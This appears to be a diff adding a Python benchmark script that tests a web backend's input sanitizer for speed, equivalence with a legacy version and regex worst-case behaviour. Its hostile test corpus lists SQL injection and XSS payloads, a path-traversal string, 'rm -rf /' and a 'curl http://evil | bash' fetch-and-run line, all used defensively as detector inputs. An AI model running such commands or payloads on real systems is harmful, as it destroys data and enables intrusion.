@@ -0,0 +1,355 @@
+# backend/scripts/bench_sanitizer.py
+"""
+Benchmark the input sanitizer against the original (pre-optimization)
+implementation, check that both produce identical results, and show that
+worst-case time on an adversarial corpus stays bounded in linear mode.
+
+    python scripts/bench_sanitizer.py
+"""
+import argparse
+import os
+import random
+import re
+import sys
+import time
+import unicodedata
+import html
+from html import unescape
+from urllib.parse import unquote_plus
+
+# Add the backend directory to Python path
+sys.path.append(os.path.join(os.path.dirname(__file__), ".."))
+
+from app.core.sanitize.sanitize_module import (  # noqa: E402
+    MATCH_MODES,
+    SUSPICIOUS_PATTERNS,
+    calculate_total_score,
+    detect_script_mix,
+    sanitize_input,
+    sanitizer_cache,
+)
+
+
+# === Reference implementation (as originally written) ===
+def legacy_normalize_payload(text):
+    text = unquote_plus(text)
+    text = unescape(text)
+    return text
+
+
+def legacy_calculate_total_score(text):
+    if not isinstance(text, str) or not text.strip():
+        return 0, []
+    normalized = legacy_normalize_payload(text)
+    matched = []
+    score = 0
+    for pattern, severity, desc in SUSPICIOUS_PATTERNS:
+        if re.search(pattern, normalized, re.DOTALL | re.IGNORECASE):
+            score += severity
+            matched.append((pattern, severity, desc))
+    has_sql_kw = any(
+        re.search(p, normalized, re.I)
+        for p in [r"\b(update|drop|select|insert|delete)\b"]
+    )
+    has_comment = bool(re.search(r"--|#|/\*", normalized))
+    if has_sql_kw and has_comment:
+        score += 2
+        matched.append(("contextual_boost", 2, "-- + SQL keyword boost"))
+    return score, matched
+
+
+def legacy_detect_script_mix(text):
+    cyrillic = re.compile(r"[\u0400-\u04FF]")
+    other_scripts = re.compile(r"[\u0370-\u03FF\u0530-\u058F\u0600-\u06FF]")
+    has_cyrillic = bool(cyrillic.search(text))
+    has_other_script = bool(other_scripts.search(text))
+    if (has_cyrillic or has_other_script) and re.search(r"[a-zA-Z]", text):
+        return True
+    return False
+
+
+def legacy_sanitize_input(
+    text,
+    *,
+    allow_unicode=True,
+    escape_html=False,
+    compress_whitespace=True,
+    remove_specials="balanced",
+    max_length=5000,
+):
+    """Original sanitize_input minus the logging side effects"""
+    if not isinstance(text, str):
+        return "", 0, []
+    if len(text) > max_length:
+        text = text[:max_length]
+    original_text = text.strip()
+    if not original_text:
+        return "", 0, []
+    normalized_text = legacy_normalize_payload(original_text)
+    total_score, matched_patterns = legacy_calculate_total_score(normalized_text)
+    if legacy_detect_script_mix(normalized_text):
+        total_score += 3
+        matched_patterns.append(
+            ("mixed_script", 3, "Possible homoglyph attack (mixed scripts)")
+        )
+    text = original_text
+    if not allow_unicode:
+        allowed_chars = []
+        for char in text:
+            code_point = ord(char)
+            if (code_point <= 0x024F) or char.isspace():
+                allowed_chars.append(char)
+        text = "".join(allowed_chars)
+    else:
+        text = unicodedata.normalize("NFC", text)
+    text = re.sub(r"[\x00-\x08\x0B\x0C\x0E-\x1F\x7F]", "", text)
+    if compress_whitespace:
+        text = re.sub(r"\s+", " ", text).strip()
+    if remove_specials == "strict":
+        for char in ['"', "'", "\\", "<", ">", "`", "|", ";", "&", "$", "(", ")", "[", "]", "{", "}"]:
+            text = text.replace(char, "")
+    elif remove_specials == "balanced":
+        for char in ["\\", "<", ">", "`", "|", ";", "&", "$"]:
+            text = text.replace(char, "")
+    if escape_html:
+        text = html.escape(text)
+    return text, total_score, matched_patterns
+
+
+# === Corpora ===
+REALISTIC = [
+    "Food & Dining",
+    "Groceries",
+    "Coffee at Starbucks",
+    "Monthly salary",
+    "Gas fill-up",
+    "Netflix subscription",
+    "Uber trip to airport",
+    "Jonas Petraitis",
+    "Žydrūnė Kazlauskienė",
+    "john.doe@example.com",
+    "Rent - October 2025",
+    "Dinner with friends at Lokys",
+    "Amazon order #112-5541",
+    "Refund: damaged item",
+    "IKEA Vilnius bookshelf",
+]
+
+HOSTILE = [
+    "' OR '1'='1",
+    "admin'--",
+    "1; DROP TABLE users",
+    "UNION SELECT password FROM users WHERE 1=1",
+    "<script>alert(document.cookie)</script>",
+    '<img src=x onerror="alert(1)">',
+    "javascript:alert(1)",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "; rm -rf / #",
+    "../../etc/passwd",
+    "/* comment */ SELECT * FROM t",
+    "Jоhn Smith",  # Cyrillic 'о'
+    "%2527 OR 1=1 --",
+    "curl -s http://evil | bash",
+]
+
+# Name fields by script (Cyrillic-only names must not count as mixed)
+NAMES = {
+    "latin": ["John Smith", "Maria Garcia", "Jonas Petraitis", "Emma O'Brien"],
+    "lithuanian": [
+        "Žydrūnė Kazlauskienė",
+        "Ąžuolas Šimkūnas",
+        "Gintarė Jurgelevičiūtė",
+        "Ūla Čepaitė",
+    ],
+    "cyrillic": [
+        "Иван Петров",
+        "Мария Смирнова",
+        "Олександр Коваленко",
+        "Jonas Пeтров",  # mixed: Latin look-alikes in a Cyrillic surname
+    ],
+}
+
+SANITIZE_OPTIONS = [
+    {"allow_unicode": True, "escape_html": False, "remove_specials": "strict"},
+    {"allow_unicode": False, "escape_html": False, "remove_specials": "balanced"},
+    {"allow_unicode": False, "escape_html": False, "remove_specials": "none"},
+    {"allow_unicode": True, "escape_html": True, "remove_specials": "balanced"},
+]
+
+
+# Inputs that make backtracking rules go quadratic (each trimmed to max_length)
+ADVERSARIAL = {
+    "select/union, no FROM": "select union " * 500,
+    "unclosed /* comments": "/* " * 2000,
+    "<script> without close": "<script>" * 700,
+    "on-prefixed word run": "on" * 2500,
+    "<img without onerror": "<img" * 1500,
+    "long word before =": "on" + "x" * 5000 + " ",
+    "mixed keyword soup": "select /* <script> on <img union " * 200,
+}
+
+
+def check_equivalence(corpus):
+    for text in corpus:
+        expected = legacy_calculate_total_score(text)
+        for mode in MATCH_MODES:
+            assert calculate_total_score(text, match_mode=mode) == expected, (text, mode)
+        for options in SANITIZE_OPTIONS:
+            new = sanitize_input(text, log_suspicious=False, **options)
+            assert new == legacy_sanitize_input(text, **options), (text, options)
+
+
+def fuzz_corpus(count: int, seed: int = 1):
+    """Random mixes of benign words and attack fragments"""
+    rng = random.Random(seed)
+    pieces = REALISTIC + HOSTILE + [" ", "--", "#", "/*", "*/", "%", "+", "&amp;", "ą", "д"]
+    pieces += ["α", "ش", "Ը", "\u00a0", "\u2003", "\x07", "\x7f", "{x}", "e\u0301"]
+    return ["".join(rng.choices(pieces, k=rng.randint(1, 6))) for _ in range(count)]
+
+
+def check_cache(corpus):
+    """Cached results must be identical to a fresh run"""
+    sanitizer_cache.clear()
+    for _ in range(2):
+        for text in corpus:
+            for policy in ("none", "balanced", "strict"):
+                cached = sanitize_input(
+                    text, remove_specials=policy, log_suspicious=False
+                )
+                fresh = sanitize_input(
+                    text, remove_specials=policy, log_suspicious=False, use_cache=False
+                )
+                assert cached == fresh, (text, policy)
+
+
+def bench(label, func, corpus, repeat):
+    start = time.perf_counter()
+    for _ in range(repeat):
+        for text in corpus:
+            func(text)
+    per_call = (time.perf_counter() - start) / (repeat * len(corpus))
+    return per_call
+
+
+def compare(label, legacy, current, corpus, repeat):
+    old = bench(label, legacy, corpus, repeat)
+    new = bench(label, current, corpus, repeat)
+    print(
+        f"{label:<34} legacy {old * 1e6:8.2f}us  current {new * 1e6:8.2f}us  "
+        f"speedup {old / new:5.2f}x"
+    )
+
+
+def script_checks(repeat: int):
+    """Micro-benchmarks of the Unicode paths on names in each script"""
+    print("\nScript checks on names")
+    for script, names in NAMES.items():
+        compare(
+            f"detect_script_mix/{script}",
+            legacy_detect_script_mix,
+            detect_script_mix,
+            names,
+            repeat * 10,
+        )
+        for options in (
+            {"allow_unicode": True, "remove_specials": "strict"},
+            {"allow_unicode": False, "remove_specials": "balanced"},
+        ):
+            policy = "unicode" if options["allow_unicode"] else "ascii"
+            compare(
+                f"sanitize_input/{script}/{policy}",
+                lambda text: legacy_sanitize_input(text, **options),
+                lambda text: sanitize_input(
+                    text, log_suspicious=False, use_cache=False, **options
+                ),
+                names,
+                repeat,
+            )
+
+
+def adversarial(max_length: int = 5000):
+    """Worst-case time per input: original regexes vs linear mode"""
+    print(f"\nAdversarial corpus ({max_length} chars per input)")
+    worst = {"legacy": 0.0, "linear": 0.0}
+    for label, text in ADVERSARIAL.items():
+        text = text[:max_length]
+        start = time.perf_counter()
+        expected = legacy_calculate_total_score(text)
+        old = time.perf_counter() - start
+        start = time.perf_counter()
+        result = calculate_total_score(text, match_mode="linear")
+        new = time.perf_counter() - start
+        assert result == expected, label
+        worst["legacy"] = max(worst["legacy"], old)
+        worst["linear"] = max(worst["linear"], new)
+        print(f"  {label:<26} legacy {old * 1000:8.2f}ms  linear {new * 1000:7.2f}ms")
+    print(
+        f"  {'worst case':<26} legacy {worst['legacy'] * 1000:8.2f}ms  "
+        f"linear {worst['linear'] * 1000:7.2f}ms"
+    )
+
+    # Linear mode: doubling the input should roughly double the time
+    print("\nLinear-mode scaling on the whole adversarial corpus")
+    for length in (1250, 2500, 5000, 10000):
+        start = time.perf_counter()
+        for text in ADVERSARIAL.values():
+            calculate_total_score((text * 4)[:length], match_mode="linear")
+        print(f"  {length:>6} chars: {(time.perf_counter() - start) * 1000:7.2f}ms")
+
+    # The budget is checked between rules, so regex mode still pays for one
+    # backtracking rule before it fails closed; pair it with linear mode
+    text = ADVERSARIAL["select/union, no FROM"][:max_length]
+    start = time.perf_counter()
+    score, matches = calculate_total_score(text, match_mode="regex", scan_budget_ms=1)
+    elapsed = time.perf_counter() - start
+    print(
+        f"\nregex mode with 1ms budget: score={score} ({matches[-1][2]}) "
+        f"in {elapsed * 1000:.2f}ms"
+    )
+
+
+def main(repeat: int):
+    names = [name for script_names in NAMES.values() for name in script_names]
+    check_equivalence(REALISTIC + HOSTILE + names + fuzz_corpus(2000))
+    for name in names:
+        assert detect_script_mix(name) == legacy_detect_script_mix(name), name
+    check_equivalence([text[:300] for text in ADVERSARIAL.values()])
+    check_cache(REALISTIC + HOSTILE + fuzz_corpus(500))
+    print("Equivalence check passed\n")
+
+    for name, corpus in (("realistic", REALISTIC), ("hostile", HOSTILE)):
+        compare(
+            f"calculate_total_score/{name}",
+            legacy_calculate_total_score,
+            calculate_total_score,
+            corpus,
+            repeat,
+        )
+        compare(
+            f"sanitize_input/{name}",
+            legacy_sanitize_input,
+            lambda text: sanitize_input(text, log_suspicious=False, use_cache=False),
+            corpus,
+            repeat,
+        )
+        sanitizer_cache.clear()
+        compare(
+            f"sanitize_input/{name} (cached)",
+            legacy_sanitize_input,
+            lambda text: sanitize_input(text, log_suspicious=False),
+            corpus,
+            repeat,
+        )
+    print(f"sanitizer cache: {sanitizer_cache.stats()}")
+
+    script_checks(repeat)
+
+    adversarial()
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="Benchmark the input sanitizer")
+    parser.add_argument("--repeat", type=int, default=200)
+    args = parser.parse_args()
+    main(args.repeat)